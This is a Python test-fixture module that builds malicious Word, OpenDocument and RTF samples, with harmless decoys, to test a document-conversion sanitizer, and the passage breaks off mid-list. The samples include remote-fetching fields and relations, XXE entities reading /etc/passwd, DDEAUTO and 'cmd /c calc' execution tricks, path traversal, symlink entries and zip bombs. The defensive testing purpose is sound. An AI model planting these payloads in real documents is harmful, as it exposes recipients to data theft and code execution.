"""Word files that ask for what they may not have, and some that only look so.

Each is a small file with one trick in it. `~PORT~` stands for the port of a server that must hear
nothing, `OUTSIDE` for a folder in which nothing may appear.
"""

from __future__ import annotations

import base64
import gzip
import io
import stat
import struct
import zipfile
from collections.abc import Callable, Mapping

Parts = dict[str, bytes]

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_P = "http://schemas.openxmlformats.org/package/2006"
_NAMESPACES = (
    f'xmlns:w="{_W}" xmlns:r="{_R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
)
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_WORDS = "<w:p><w:r><w:t>รายงานการประชุมประจำเดือน</w:t></w:r></w:p>"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
EPS = (
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(OUTSIDE/eps) (w) file "
    b"dup (x) writestring closefile\nshowpage\n%%EOF\n"
)
_DOS_EPS = b"\xc5\xd0\xd3\xc6" + struct.pack("<6L", 30, len(EPS), 0, 0, 0, 0) + b"\xff\xff" + EPS
_EMF = struct.pack("<2L", 1, 88) + bytes(32) + b" EMF" + bytes(44)
_WMF = b"\xd7\xcd\xc6\x9a" + bytes(18) + b"\1\0\t\0\0\3"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
URL = "http://127.0.0.1:~PORT~"


def document(body: str) -> bytes:
    """The main part with that body."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {_NAMESPACES}><w:body>'
        f"{body}{_WORDS}</w:body></w:document>"
    ).encode()


def relations(*lines: tuple[str, str, str, str]) -> bytes:
    """A part of relations: identifier, kind (or whole type), target, mode."""
    drawn = "".join(
        f'<Relationship Id="{key}" Type="{kind if ":" in kind else f"{_R}/{kind}"}" '
        f'Target="{target}"{f" TargetMode={mode!r}" if mode else ""}/>'
        for key, kind, target, mode in lines
    )
    return f'<Relationships xmlns="{_P}/relationships">{drawn}</Relationships>'.encode()


def types(**overrides: str) -> bytes:
    """The types of the parts; a name like ``word__x_xml`` stands for ``/word/x.xml``."""
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
        "eps": "image/x-eps",
        "svg": "image/svg+xml",
        "emf": "image/x-emf",
        "wmf": "image/x-wmf",
        "bin": "application/octet-stream",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    }
    lines = [f'<Default Extension="{key}" ContentType="{kind}"/>' for key, kind in defaults.items()]
    lines += [
        f'<Override PartName="/{name.replace("__", "/").replace("_", ".")}" ContentType="{kind}"/>'
        for name, kind in overrides.items()
    ]
    return f'<Types xmlns="{_P}/content-types">{"".join(lines)}</Types>'.encode()


def plain(body: str = "", *lines: tuple[str, str, str, str], **more: bytes) -> Parts:
    """A harmless file's parts with that body, the document's relations and further parts."""
    return {
        "[Content_Types].xml": types(word__document_xml=MAIN),
        "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml", "")),
        "word/document.xml": document(body),
        "word/_rels/document.xml.rels": relations(*lines),
        **{name.replace("__", "/").replace("_", "."): part for name, part in more.items()},
    }


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """The package."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return packed.getvalue()


def _outside(kind: str, target: str = f"{URL}/x") -> Parts:
    return plain("", ("rId9", kind, target, "External"))


def field(*instructions: str, result: str = "x") -> str:
    """A field whose instruction is cut into those runs."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instructions
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _picture(attribute: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/>'
        '<wp:docPr id="1" name="p"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        f'<pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {attribute}/>'
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="360000" cy="360000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def shown(name: str, data: bytes) -> Parts:
    """A file with a picture of that name and those bytes."""
    made = plain(_picture('r:embed="rId9"'), ("rId9", "image", f"media/{name}", ""))
    return made | {f"word/media/{name}": data}


def _vml(drawn: str) -> Parts:
    return plain(
        f'<w:p><w:r><w:pict><v:shape style="width:9pt;height:9pt">{drawn}</v:shape></w:pict></w:r></w:p>'
    )


def _other_main(name: str, kind: str = MAIN) -> Parts:
    parts = plain()
    return parts | {
        "[Content_Types].xml": types(**{f"word__{name.replace('.', '_')}": kind}),
        "_rels/.rels": relations(("rId1", "officeDocument", f"word/{name}", "")),
        f"word/{name}": document(field(f' INCLUDEPICTURE "{URL}/m.png" \\d ')),
    }


def _workbook(formula: str, *lines: tuple[str, str, str, str]) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    base = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return zipped(
        {
            "[Content_Types].xml": types(
                xl__workbook_xml=f"{base}.sheet.main+xml", xl__sheet_xml=f"{base}.worksheet+xml"
            ),
            "_rels/.rels": relations(("rId1", "officeDocument", "xl/workbook.xml", "")),
            "xl/workbook.xml": (
                f'<workbook xmlns="{main}" xmlns:r="{_R}"><sheets>'
                '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": relations(("rId1", "worksheet", "sheet.xml", ""), *lines),
            "xl/sheet.xml": (
                f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row>'
                "</sheetData></worksheet>"
            ).encode(),
        }
    )


def _embedding(data: bytes, kind: str = "package", name: str = "book.xlsx") -> Parts:
    made = plain(
        '<w:p><w:r><w:object><v:shape style="width:9pt;height:9pt"/>'
        '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" ShapeID="s" DrawAspect="Content" '
        'ObjectID="1" r:id="rId9"/></w:object></w:r></w:p>',
        ("rId9", kind, f"embeddings/{name}", ""),
    )
    return made | {f"word/embeddings/{name}": data}


_WEB = "http://schemas.microsoft.com/office/2011/relationships/webextension"


def _called_a_face(data: bytes, kind: str = f"{MAIN[:46]}obfuscatedFont") -> Parts:
    """A picture that is declared to be something that is not looked into."""
    return shown("a.png", data) | {
        "[Content_Types].xml": types(word__document_xml=MAIN, word__media__a_png=kind)
    }


_ALTERNATIVE = (
    '<mc:AlternateContent><mc:Choice Requires="nobody"><w:r><w:instrText>PAGE </w:instrText></w:r>'
    "</mc:Choice><mc:Fallback/></mc:AlternateContent>"
)
_BEGIN, _SEPARATE, _END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)


def _instruction(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


FETCHED = f'"{URL}/f" \\d '
HOSTILE: dict[str, Callable[[], Parts]] = {
    # T3: the net and the disk, by relations
    **{
        f"an outside {kind}": (lambda kind=kind: _outside(kind))
        for kind in (
            *("image", "attachedTemplate", "subDocument", "aFChunk", "oleObject", "frame", "video"),
            *("mailMergeSource", "mailMergeHeaderSource", "recipientData", "package", "header"),
            *("chart", "externalLink", "transform", "htmlPubSaveAs", "audio", "settings", "font"),
        )
    },
    "a linked picture": lambda: plain(
        _picture('r:link="rId9"'), ("rId9", "image", f"{URL}/p.png", "External")
    ),
    "a picture behind a hyperlink's relation": lambda: plain(
        _picture('r:link="rId9"'), ("rId9", "hyperlink", f"{URL}/p.png", "External")
    ),
    "an address called internal": lambda: plain("", ("rId9", "image", f"{URL}/p.png", "")),
    "a local file called internal": lambda: plain("", ("rId9", "image", "file:///etc/passwd", "")),
    "another computer's folder": lambda: plain(
        "", ("rId9", "image", "\\\\127.0.0.1\\x\\p.png", "")
    ),
    "a mode in small letters": lambda: plain("", ("rId9", "image", f"{URL}/p.png", "external")),
    "a relation that is there twice": lambda: plain(
        _picture('r:link="rId9"'),
        ("rId9", "hyperlink", f"{URL}/p.png", "External"),
        ("rId9", "image", "media/a.png", ""),
        word__media__a_png=PNG,
    ),
    "a relation of an unknown kind": lambda: plain("", ("rId9", "somethingNew", "x.xml", "")),
    "a link that names a macro": lambda: plain(
        "", ("rId9", "hyperlink", "vnd.sun.star.script:a.b?language=Basic", "External")
    ),
    "a link that reads the environment": lambda: plain(
        "", ("rId9", "hyperlink", "vnd.sun.star.expand:$HOME", "External")
    ),
    "an image of VML": lambda: _vml(f'<v:imagedata src="{URL}/v.png"/>'),
    "a fill of VML": lambda: _vml(f'<v:fill type="frame" src="{URL}/v.png"/>'),
    "a linked image of VML": lambda: _vml(f'<v:imagedata o:href="{URL}/v.png"/>'),
    "a video in a frame": lambda: plain(
        f'<w:p><w:r><w:drawing><wp15:webVideoPr embeddedHtml="&lt;iframe src={URL}&gt;"/>'
        "</w:drawing></w:r></w:p>"
    ),
    "an altChunk": lambda: plain('<w:altChunk r:id="rId9"/>'),
    "a chunk inside": lambda: plain(
        '<w:altChunk r:id="rId9"/>',
        ("rId9", "aFChunk", "chunk.htm", ""),
        word__chunk_htm=b"<html/>",
    ),
    "a subdocument": lambda: plain('<w:subDoc r:id="rId9"/>'),
    "frames": lambda: plain(
        "",
        ("rId9", "webSettings", "webSettings.xml", ""),
        word__webSettings_xml=f'<w:webSettings xmlns:w="{_W}"><w:frameset/></w:webSettings>'.encode(),
    ),
    "a mail merge": lambda: plain(
        "",
        ("rId9", "settings", "settings.xml", ""),
        word__settings_xml=f'<w:settings xmlns:w="{_W}"><w:mailMerge/></w:settings>'.encode(),
    ),
    # T3 again, now by fields:
    **{
        f"the field {name}": (lambda name=name: plain(field(f" {name} {FETCHED}")))
        for name in (
            *("INCLUDETEXT", "INCLUDEPICTURE", "INCLUDE", "IMPORT", "LINK", "DDE", "DDEAUTO"),
            *("DATABASE", "RD", "MACROBUTTON", "AUTOTEXT", "EMBED", "CONTROL", "PRINT"),
        )
    },
    "a field in small letters": lambda: plain(field(f" includepicture {FETCHED}")),
    "a field cut into runs": lambda: plain(field(" INC", "LUDEPIC", f"TURE {FETCHED}")),
    "a simple field": lambda: plain('<w:p><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/></w:p>'),
    "a field without an end": lambda: plain(
        f"<w:p>{_BEGIN}{_instruction(f'INCLUDETEXT {FETCHED}')}</w:p>"
    ),
    "a field in a field": lambda: plain(
        f"<w:p>{_BEGIN}{_instruction('IF 1 = 1 ')}{_BEGIN}{_instruction(f'INCLUDEPICTURE {FETCHED}')}"
        f"{_SEPARATE}{_END}{_SEPARATE}{_END}</w:p>"
    ),
    "a field that computes a field": lambda: plain(
        f"<w:p>{_BEGIN}{_BEGIN}{_instruction('REF a')}{_SEPARATE}<w:r><w:t>INCLUDEPICTURE</w:t></w:r>"
        f"{_END}{_instruction(f' PAGE {FETCHED}')}{_SEPARATE}{_END}</w:p>"
    ),
    "a link of a field that names a macro": lambda: plain(
        field(' HYPERLINK \\l "a" "vnd.sun.star.script:a.b?language=Basic" ')
    ),
    "deleted text before a field's name": lambda: plain(
        f"<w:p>{_BEGIN}<w:r><w:delInstrText>PAGE </w:delInstrText></w:r>"
        f"{_instruction(f'INCLUDEPICTURE {FETCHED}')}{_SEPARATE}{_END}</w:p>"
    ),
    "another reading before a field's name": lambda: plain(
        f"<w:p>{_BEGIN}{_ALTERNATIVE}{_instruction(f'INCLUDEPICTURE {FETCHED}')}{_SEPARATE}{_END}</w:p>"
    ),
    "a quoted field's name": lambda: plain(field(f' "INCLUDEPICTURE" {FETCHED}')),
    "a field in a header": lambda: plain(
        "",
        ("rId9", "header", "header1.xml", ""),
        word__header1_xml=f'<w:hdr xmlns:w="{_W}">{field(f" INCLUDEPICTURE {FETCHED}")}</w:hdr>'.encode(),
    ),
    # T4, T6: macros, other kinds, parts under other names
    "a main part under another name": lambda: _other_main("evil.bin"),
    "a main part with a macro's type": lambda: _other_main(
        "document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "two main parts": lambda: (
        plain()
        | {
            "_rels/.rels": relations(
                ("rId1", "officeDocument", "word/document.xml", ""),
                ("rId2", "officeDocument", "word/other.xml", ""),
            ),
            "word/other.xml": document(""),
        }
    ),
    "a macro": lambda: plain() | {"word/vbaProject.bin": OLE},
    "a macro under another name": lambda: (
        plain("", ("rId9", "vbaProject", "media/a.png", "")) | {"word/media/a.png": OLE}
    ),
    "a macro by its type": lambda: (
        plain()
        | {
            "[Content_Types].xml": types(
                word__document_xml=MAIN, word__a_dat="application/vnd.ms-office.vbaProject"
            ),
            "word/a.dat": b"x",
        }
    ),
    "an ActiveX control": lambda: (
        plain("", ("rId9", "control", "activeX/activeX1.xml", ""))
        | {"word/activeX/activeX1.xml": b"<a/>"}
    ),
    "an OLE object": lambda: _embedding(OLE, "oleObject", "o.bin"),
    "an OLE object called a picture": lambda: shown("o.png", OLE),
    "an OLE object called a workbook": lambda: _embedding(OLE),
    "a linked OLE object": lambda: plain(
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.8" r:id="rId9"/></w:object></w:r></w:p>'
    ),
    "a workbook that asks the net": lambda: _embedding(_workbook(f'WEBSERVICE("{URL}/w")')),
    "a workbook that starts a program": lambda: _embedding(_workbook("cmd|'/c calc'!A0")),
    "a workbook with an outside": lambda: _embedding(
        _workbook("1+1", ("rId2", "externalLinkPath", f"{URL}/e", "External"))
    ),
    "a document in the document": lambda: _embedding(
        zipped(plain(field(f" INCLUDEPICTURE {FETCHED}"))), name="inner.docx"
    ),
    # T5: names that become files
    "a font with a way up": lambda: plain(
        "",
        ("rId9", "fontTable", "fontTable.xml", ""),
        word__fontTable_xml=f'<w:fonts xmlns:w="{_W}"><w:font w:name="../../OUTSIDE/x"/></w:fonts>'.encode(),
    ),
    # T7, T8: what is in the package
    "a bomb": lambda: plain() | {"word/media/a.png": PNG + bytes(8 * 2**20)},
    "too many parts": lambda: plain() | {f"x/{number}.xml": b"<a/>" for number in range(2001)},
    "a way up": lambda: plain() | {"../../OUTSIDE": b"x"},
    "a name from the root": lambda: plain() | {"/etc/x.xml": b"<a/>"},
    "a DOCTYPE": lambda: (
        plain()
        | {"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}
    ),
    "entities that grow": lambda: (
        plain()
        | {
            "word/styles.xml": b'<!DOCTYPE a [<!ENTITY x "yyyyyyyy"><!ENTITY z "&x;&x;">]><a>&z;</a>'
        }
    ),
    "deep nesting": lambda: plain() | {"word/styles.xml": b"<a>" * 1000 + b"</a>" * 1000},
    "UTF-16": lambda: plain() | {"word/styles.xml": "<a/>".encode("utf-16")},
    "broken markup": lambda: plain() | {"word/styles.xml": b"<a><b></a>"},
    # PostScript under five names, and of five kinds
    **{
        f"PostScript called {name}": (lambda name=name: shown(name, EPS))
        for name in ("a.eps", "a.png", "a.wmf", "a.emf", "a.bin", "a.svg")
    },
    "PostScript with a header of DOS": lambda: shown("a.png", _DOS_EPS),
    "PostScript that is no EPS": lambda: shown("a.png", b"%!\n{} loop\n"),
    "PostScript behind blanks": lambda: shown("a.png", b"\r\n  " + EPS),
    "PostScript inside a metafile": lambda: shown("a.wmf", _WMF + EPS),
    "PostScript inside an enhanced metafile": lambda: shown("a.emf", _EMF + EPS),
    "PostScript that nothing shows": lambda: plain() | {"word/media/b.png": EPS},
    "PostScript without end": lambda: shown("a.png", EPS.replace(b"showpage", b"{} loop")),
    "a PDF called a picture": lambda: shown("a.png", b"%PDF-1.7\n%%EOF"),
    "an SVG with a script": lambda: shown("a.svg", _SVG.format("<script>x</script>").encode()),
    "an SVG with an event": lambda: shown("a.svg", _SVG.format('<rect onclick="x"/>').encode()),
    "an SVG that fetches": lambda: shown(
        "a.svg", _SVG.format(f'<image xlink:href="{URL}/s.png"/>').encode()
    ),
    "an SVG that fetches by style": lambda: shown(
        "a.png", _SVG.format(f'<rect style="fill:url({URL}/s)"/>').encode()
    ),
    "an SVG with another in it": lambda: shown(
        "a.svg",
        _SVG.format(
            '<foreignObject><b xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'
        ).encode(),
    ),
    # T9, pictures too large or unknown:
    "a picture of too many dots": lambda: shown(
        "a.png", PNG[:16] + struct.pack(">2L", 60000, 60000) + PNG[24:]
    ),
    "a picture of an unknown kind": lambda: shown("a.png", b"what is this"),
    # what comes by another door than the document's own
    "a template of the settings": lambda: (
        plain(
            "",
            ("rId9", "settings", "settings.xml", ""),
            word__settings_xml=f'<w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
        )
        | {
            "word/_rels/settings.xml.rels": relations(
                ("rId1", "attachedTemplate", f"{URL}/t.dotm", "External")
            )
        }
    ),
    "a source of a mail merge": lambda: (
        plain(
            "",
            ("rId9", "settings", "settings.xml", ""),
            word__settings_xml=f'<w:settings xmlns:w="{_W}"/>'.encode(),
        )
        | {
            "word/_rels/settings.xml.rels": relations(
                ("rId1", "mailMergeSource", "file:///etc/passwd", "External")
            )
        }
    ),
    "an add-in of the web": lambda: (
        plain()
        | {
            "_rels/.rels": relations(
                ("rId1", "officeDocument", "word/document.xml", ""),
                ("rId2", f"{_WEB}taskpanes", "word/webextensions/taskpanes.xml", ""),
            ),
            "word/webextensions/taskpanes.xml": b"<a/>",
        }
    ),
    "data that fetch": lambda: (
        plain()
        | {
            "customXml/item1.xml": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{URL}/x">%x;]><a/>'.encode(),
            "customXml/_rels/item1.xml.rels": relations(),
        }
    ),
    "a template with macros": lambda: _other_main(
        "document.xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
    ),
    "a bomb in a workbook": lambda: _embedding(
        zipped(plain() | {"word/media/a.png": PNG + bytes(8 * 2**20)})
    ),
    "packages in packages": lambda: _embedding(
        zipped(_embedding(zipped(_embedding(zipped(_embedding(zipped(plain())))))))
    ),
    "PostScript called a face": lambda: _called_a_face(EPS),
    "an OLE object called settings of a printer": lambda: _called_a_face(
        b"\0" + OLE,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings",
    ),
    "PostScript in gzip": lambda: shown("a.wmz", gzip.compress(EPS, mtime=0)),
    "an SVG with a style sheet": lambda: shown(
        "a.svg", f'<?xml-stylesheet href="{URL}/s.css"?>{_SVG.format("<rect/>")}'.encode()
    ),
    "an SVG from somewhere else": lambda: shown(
        "a.svg", _SVG.format(f'<use xml:base="{URL}/s.svg" xlink:href="#a"/>').encode()
    ),
    "an SVG whose style imports": lambda: shown(
        "a.svg", _SVG.format(f"<style>@import '{URL}/s.css';</style>").encode()
    ),
    "a field in a footnote": lambda: plain(
        "",
        ("rId9", "footnotes", "footnotes.xml", ""),
        word__footnotes_xml=f'<w:footnotes xmlns:w="{_W}"><w:footnote w:id="1">'
        f"{field(' DDEAUTO cmd /c')}</w:footnote></w:footnotes>".encode(),
    ),
    "a field in a glossary": lambda: plain(
        "",
        ("rId9", "glossaryDocument", "glossary/document.xml", ""),
        word__glossary__document_xml=f'<w:glossaryDocument xmlns:w="{_W}">'
        f"{field(f' INCLUDETEXT {FETCHED}')}</w:glossaryDocument>".encode(),
    ),
    "a chunk in a header": lambda: plain(
        "",
        ("rId9", "header", "header1.xml", ""),
        word__header1_xml=f'<w:hdr xmlns:w="{_W}" xmlns:r="{_R}"><w:altChunk r:id="a"/></w:hdr>'.encode(),
    ),
}

# What looks like one of the above and is none: each must become a PDF.
DECOYS: dict[str, Callable[[], Parts]] = {
    "a link with link in its address": lambda: plain(
        field(' HYPERLINK "https://www.example.go.th/link/include/dde" ')
    ),
    "a style called quote": lambda: plain(field(' STYLEREF "Intense Quote" ')),
    "a reference to a bookmark called LINK": lambda: plain(field(" REF LINK \\h ")),
    "a sum": lambda: plain(field(" =SUM(ABOVE) ")),
    "a hyperlink": lambda: plain(
        '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>ดูเว็บไซต์</w:t></w:r></w:hyperlink></w:p>',
        ("rId9", "hyperlink", "https://www.example.go.th/?q=INCLUDETEXT", "External"),
    ),
    "words about PostScript": lambda: plain(
        "<w:p><w:r><w:t>%!PS INCLUDEPICTURE DDE</w:t></w:r></w:p>"
    ),
    "a picture called eps": lambda: shown("a.eps", PNG),
    "a harmless SVG": lambda: shown("a.svg", _SVG.format('<rect id="a" fill="url(#b)"/>').encode()),
    "a main part under a harmless name": lambda: (
        _other_main("letter.xml") | {"word/letter.xml": document("")}
    ),
    "an embedded workbook": lambda: _embedding(_workbook("1+1")),
}


def link_entry() -> bytes:
    """A package in which one part is a symbolic link."""
    packed = io.BytesIO(zipped(plain()))
    with zipfile.ZipFile(packed, "a") as file:
        entry = zipfile.ZipInfo("word/media/a.png")
        entry.create_system = 3
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        file.writestr(entry, "/etc/passwd")
    return packed.getvalue()


def declared(size: int) -> bytes:
    """A package whose directory says that a part has so many bytes."""
    made = bytearray(zipped(plain()))
    at = made.rindex(b"PK\1\2")
    made[at + 24 : at + 28] = struct.pack("<L", size)
    return bytes(made)


def filled(parts: Mapping[str, bytes], port: int, outside: str) -> dict[str, bytes]:
    """The parts with a real port and folder in them."""
    return {
        name.replace("OUTSIDE", "outside"): content.replace(b"~PORT~", str(port).encode()).replace(
            b"OUTSIDE", outside.encode()
        )
        for name, content in parts.items()
    }


# --- other kinds of file -------------------------------------------------------------------------
def compound(*names: str, flags: int = 0, text: bytes = b"") -> bytes:
    """The outside of a compound file: a header, its first sector, a directory with those names."""
    header = OLE[:8] + bytes(22) + struct.pack("<H", 9)
    first = b"\xec\xa5" + bytes(9) + bytes([flags]) + bytes(20) + text
    directory = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack("<HB", len(name) * 2 + 2, 2)
        + bytes(49)
        + struct.pack("<L", 0)
        + bytes(8)
        for name in names
    )
    return header.ljust(512, b"\0") + first.ljust(512, b"\0") + directory.ljust(1024, b"\0")


_XLINK = "http://www.w3.org/1999/xlink"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"


def _odt(body: str, before: str = "", **more: bytes) -> Parts:
    content = (
        f'<office:document-content xmlns:office="{_ODF}:office:1.0" xmlns:text="{_ODF}:text:1.0" '
        f'xmlns:draw="{_ODF}:drawing:1.0" xmlns:script="{_ODF}:script:1.0" '
        f'xmlns:table="{_ODF}:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">{before}'
        f"<office:body><office:text>{body}<text:p>รายงานการประชุม</text:p></office:text></office:body>"
        "</office:document-content>"
    )
    return {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": content.encode(),
        "META-INF/manifest.xml": (
            f'<m:manifest xmlns:m="{_ODF}:manifest:1.0" m:version="1.2"><m:file-entry m:full-path="/" '
            'm:media-type="application/vnd.oasis.opendocument.text"/><m:file-entry '
            'm:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
        ).encode(),
        **{name.replace("__", "/").replace("_", "."): part for name, part in more.items()},
    }


def _drawing(reference: str) -> str:
    return f'<text:p><draw:frame><draw:image xlink:href="{reference}"/></draw:frame></text:p>'


# The parts, and what must be told of them; nothing where they are harmless.
OPEN_DOCUMENTS: dict[str, tuple[Parts, str]] = {
    "plain": (_odt(""), ""),
    "a picture inside": (_odt(_drawing("Pictures/a.png"), Pictures__a_png=PNG), ""),
    "a link": (_odt('<text:p><text:a xlink:href="https://a.go.th/">x</text:a></text:p>'), ""),
    "an empty place for scripts": (
        _odt("", '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'),
        "",
    ),
    "a picture outside": (_odt(_drawing("http://x.invalid/a.png")), "เชื่อมไปยังภายนอก"),
    "a picture on the disk": (_odt(_drawing("file:///etc/passwd")), "เชื่อมไปยังภายนอก"),
    "a picture above": (_odt(_drawing("../../etc/passwd")), "เชื่อมไปยังภายนอก"),
    "a linked section": (
        _odt('<text:section><text:section-source xlink:href="x.odt"/></text:section>'),
        "section-source",
    ),
    "an event": (
        _odt("<text:p><script:event-listener/></text:p>"),
        "event-listener",
    ),
    "a script": (
        _odt('<text:p><text:script script:language="Basic">x</text:script></text:p>'),
        "script",
    ),
    "a link that runs": (
        _odt('<text:p><text:a xlink:href="vnd.sun.star.script:x">x</text:a></text:p>'),
        "vnd.sun.star.script",
    ),
    "an object": (_odt('<text:p><draw:object-ole xlink:href="./o"/></text:p>'), "object-ole"),
    "a linked object": (_odt('<text:p><draw:object xlink:href="/o.ods"/></text:p>'), "object"),
    "a frame": (_odt('<text:p><draw:floating-frame xlink:href="x"/></text:p>'), "floating-frame"),
    "a linked table": (
        _odt('<table:table><table:table-source xlink:href="x"/></table:table>'),
        "table-source",
    ),
    "a library": (_odt("", Basic__Standard__a_xml=b"<a/>"), "มาโคร"),
    "PostScript": (_odt(_drawing("Pictures/a.png"), Pictures__a_png=EPS), "PostScript"),
    "a password": (_odt("") | {"META-INF/manifest.xml": b"<m><encryption-data/></m>"}, "รหัสผ่าน"),
    "a template elsewhere": (
        _odt(
            "",
            meta_xml=f'<m:template xmlns:m="{_ODF}:meta:1.0" xmlns:x="{_XLINK}" x:href="{URL}/t"/>'.encode(),
        ),
        "เชื่อมไปยังภายนอก",
    ),
    "a face elsewhere": (
        _odt(
            "",
            f'<svg:font-face-uri xmlns:svg="{_ODF}:svg-compatible:1.0" xlink:href="{URL}/f.ttf"/>',
        ),
        "เชื่อมไปยังภายนอก",
    ),
    "a background elsewhere": (
        _odt(
            "",
            styles_xml=f'<s:background-image xmlns:s="{_ODF}:style:1.0" xmlns:x="{_XLINK}" x:href="{URL}/b"/>'.encode(),
        ),
        "เชื่อมไปยังภายนอก",
    ),
    "a form that loads its data": (
        _odt(
            "",
            f'<x:model xmlns:x="http://www.w3.org/2002/xforms"><x:instance src="{URL}/i"/></x:model>',
        ),
        "XForms",
    ),
    "a form's picture elsewhere": (
        _odt(f'<f:image xmlns:f="{_ODF}:form:1.0" f:image-data="{URL}/p.png"/>'),
        "เชื่อมไปยังภายนอก",
    ),
    "a database": (
        _odt(f'<f:form xmlns:f="{_ODF}:form:1.0" f:datasource="{URL}/d.odb" f:command="x"/>'),
        "เชื่อมไปยังภายนอก",
    ),
    "an entity": (
        _odt("")
        | {"styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'},
        "DOCTYPE",
    ),
    "a dialog": (_odt("", Dialogs__Standard__d_xml=b"<a/>"), "มาโคร"),
    "a spreadsheet": (
        _odt("") | {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"},
        "ไม่ใช่ไฟล์ Word",
    ),
}


def rich(text: bytes) -> bytes:
    """A file of Rich Text with that in it."""
    return b"{\\rtf1\\ansi\\ansicpg874 Minutes of the meeting " + text + b"\\par}"


RICH_TEXTS: list[tuple[bytes, str]] = [
    (b"plain", ""),
    (b'{\\field{\\*\\fldinst HYPERLINK "http://a.go.th/link"}{\\fldrslt x}}', ""),
    (b"{\\field{\\*\\fldinst { HYPERLINK x }{{\\*\\datafield 00d0c9ea}}}{\\fldrslt x}}", ""),
    (b"{\\pict\\pngblip " + PNG.hex().encode() + b"}", ""),
    (b"{\\field{\\*\\fldinst INCLUDETEXT x}{\\fldrslt x}}", "INCLUDETEXT"),
    (b"{\\field{\\*\\fldinst {INC}{\\b LUDEPICTURE} x}{\\fldrslt x}}", "INCLUDEPICTURE"),
    (b"{\\field{\\*\\fldinst IF {\\field{\\*\\fldinst DDE x}{\\fldrslt x}}}}", "DDE"),
    (b"{\\field{\\*\\fldinst {\\field{\\*\\fldinst REF a}{\\fldrslt LINK}} x}}", "LINK"),
    (b"{\\field{\\*\\fldinst {\\*\\datafield PAGE }INCLUDETEXT x}}", "fldinst"),
    (b"{\\field{\\*\\fldinst \\u73?NCLUDETEXT x}}", "fldinst"),
    (b"{\\field{\\*\\fldinst \\'49NCLUDETEXT x}}", "fldinst"),
